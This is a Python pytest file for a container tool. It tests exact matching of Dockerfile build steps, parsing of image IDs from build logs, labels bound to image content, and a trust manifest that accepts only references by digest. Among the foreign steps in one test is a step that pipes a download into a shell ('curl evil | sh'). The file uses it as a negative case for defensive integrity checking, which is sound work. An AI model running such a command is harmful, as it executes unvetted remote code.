"""The pure parts of "ours": exact build steps, build-log identity, content labels, the manifest."""

from __future__ import annotations

import json

import pytest

from attune_containers.core import labels as L
from attune_containers.engine import ImageRecord
from attune_containers.errors import InvalidSpecError
from attune_containers.services.manifest import TrustManifest
from attune_containers.services.provenance import BuildLogIds, BuildRecord
from attune_containers.services.pruner import history_step, our_dockerfile_steps


def test_steps_match_exactly_never_by_substring():
    steps = our_dockerfile_steps("attune-base/python:3.11")
    assert history_step("/bin/sh -c python3 -m venv /opt/attune/venv") in steps
    assert history_step("/bin/sh -c #(nop) COPY dir:" + "a" * 64 + " in /opt/attune ") in steps
    assert history_step("/bin/sh -c #(nop)  USER root") in steps
    for foreign in (
        "/bin/sh -c mkdir -p /opt/attunement-dashboard",
        "/bin/sh -c python3 -m venv /opt/attune/venv && curl evil | sh",
        "/bin/sh -c #(nop) COPY dir:" + "a" * 64 + " in /opt/attunement-dashboard ",
        "/bin/sh -c #(nop)  USER 0",
    ):
        assert history_step(foreign) not in steps


def test_build_log_ids_ignore_what_a_step_prints():
    seen: list[str] = []
    ids = BuildLogIds(seen.append)
    for line in [
        "Step 1/3 : FROM base",
        " ---> 111111111111",
        "Step 2/3 : RUN thing",
        " ---> Running in 999999999999",
        " ---> 222222222222",
        "Successfully built 333333333333",
        "Removing intermediate container 999999999999",
        " ---> 444444444444",
        "Successfully built 555555555555",
    ]:
        ids(line)
    assert ids.ids == ["111111111111", "444444444444", "555555555555"]
    assert len(seen) == 9  # every line is passed on


def test_build_record_is_per_state_dir(tmp_path):
    a, b = BuildRecord(tmp_path / "a"), BuildRecord(tmp_path / "b")
    a.add(["sha256:" + "ab" * 32, "111111111111"])
    assert a.contains("sha256:" + "ab" * 32) and a.contains("sha256:111111111111" + "0" * 52)
    assert not b.contains("sha256:" + "ab" * 32)


def test_content_label_binds_labels_to_their_own_image():
    attrs = {
        "Id": "sha256:a",
        "RootFS": {"Layers": ["sha256:1", "sha256:2"]},
        "Config": {"User": "65532:65532", "Cmd": ["python"]},
    }
    content = L.content_identity(ImageRecord.from_inspect(attrs))
    labels = {L.MANAGED: "true", L.PACK_REF: "p", L.DEPENDENCY_HASH: "0" * 64, L.CONTENT: content}
    ours = {**attrs, "Config": {**attrs["Config"], "Labels": labels}}
    assert L.is_built_by_us(ImageRecord.from_inspect(ours))
    derived_layer = {**ours, "RootFS": {"Layers": ["sha256:1", "sha256:2", "sha256:3"]}}
    derived_user = {**ours, "Config": {**ours["Config"], "User": "root"}}
    assert not L.is_built_by_us(ImageRecord.from_inspect(derived_layer))
    assert not L.is_built_by_us(ImageRecord.from_inspect(derived_user))


def test_the_manifest_takes_only_references_by_digest(tmp_path):
    good = {
        "dependency_hash": "a" * 64,
        "image": "attune-packs/p:aaaaaaaaaaaaaaaa",
        "reference": "reg:5000/attune-packs/p@sha256:" + "b" * 64,
        "image_id": "sha256:" + "c" * 64,
    }
    path = tmp_path / "m.json"
    path.write_text(json.dumps({"format": 1, "packs": {"p": good}}))
    manifest = TrustManifest.load(path)
    assert manifest.entry("p", "a" * 64).digest == "sha256:" + "b" * 64
    assert manifest.entry("p", "d" * 64) is None and manifest.entry("q", "a" * 64) is None
    path.write_text(json.dumps({"format": 1, "packs": {"p": {**good, "reference": "reg:5000/attune-packs/p:latest"}}}))
    with pytest.raises(InvalidSpecError, match="by digest"):
        TrustManifest.load(path)
